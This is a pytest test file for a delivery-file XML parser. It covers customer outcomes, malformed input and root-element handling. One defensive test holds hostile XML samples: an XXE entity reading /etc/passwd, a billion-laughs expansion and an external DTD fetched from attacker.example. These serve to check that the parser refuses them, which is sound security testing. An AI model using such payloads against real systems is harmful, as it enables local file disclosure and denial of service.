"""Delivery-file parsing: outcomes, malformed XML and entity attacks."""

from __future__ import annotations

import pytest

from integration.connectors.exstream.delivery import DeliveryFileError, parse_delivery_file

GOOD = b"""<?xml version="1.0" encoding="UTF-8"?>
<outputList customersProcessed="2" pagesProcessed="3">
  <customer><key name="customerKey">msg-1</key><queueName>PrintPDF</queueName>
    <queueName>EmailHTML</queueName></customer>
  <customer><key name="accountNumber">A-9</key><key name="customerKey">msg-2</key>
    <queueName>PrintPDF</queueName></customer>
  <failedCustomer><key name="customerKey">msg-3</key><reason>Address rejected</reason>
  </failedCustomer>
  <reportFile dataFile="Error_Report" name="Error_Report.txt"/>
</outputList>
"""


def test_outcomes_per_customer_key():
    outcome = parse_delivery_file(GOOD, key_name="customer.customerKey")
    assert outcome.delivered == {"msg-1": ["PrintPDF", "EmailHTML"], "msg-2": ["PrintPDF"]}
    assert outcome.failed == {"msg-3": "Address rejected"}
    assert outcome.customers_processed == 2 and outcome.pages_processed == 3
    assert outcome.report_files == ["Error_Report.txt"]


def test_first_key_is_used_when_no_customer_key_is_named():
    xml = b'<outputList><customer><key name="acct">A-1</key></customer></outputList>'
    assert parse_delivery_file(xml).delivered == {"A-1": []}


@pytest.mark.parametrize(
    "data",
    [b"<outputList><customer>", b"", b"not xml at all", b"<outputList></wrong>"],
)
def test_malformed_xml_is_a_readable_error(data):
    with pytest.raises(DeliveryFileError, match="not well-formed"):
        parse_delivery_file(data)


def test_unexpected_root_element():
    with pytest.raises(DeliveryFileError, match="Expected <outputList>"):
        parse_delivery_file(b"<jobs/>")


def test_an_output_list_inside_another_root_is_read():
    """Reference §6 names the <outputList> element, not that it is the file's root: a file
    that wraps it is read; one without it still is not."""
    wrapped = (
        b'<deliveryFile><outputList customersProcessed="1"><customer>'
        b'<key name="acct">A-1</key><queueName>PDF</queueName></customer></outputList>'
        b"</deliveryFile>"
    )
    outcome = parse_delivery_file(wrapped, key_name="acct")
    assert outcome.delivered == {"A-1": ["PDF"]} and outcome.customers_processed == 1


@pytest.mark.parametrize(
    "data",
    [
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<outputList><customer><key name="customerKey">&x;</key></customer></outputList>',
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<outputList><customer><key name="customerKey">&b;</key></customer></outputList>',
        # a bare DTD
        b'<!DOCTYPE outputList SYSTEM "http://attacker.example/x.dtd"><outputList/>',
    ],
)
def test_dtds_and_entities_are_refused(data):
    with pytest.raises(DeliveryFileError, match="DTD or entities"):
        parse_delivery_file(data)
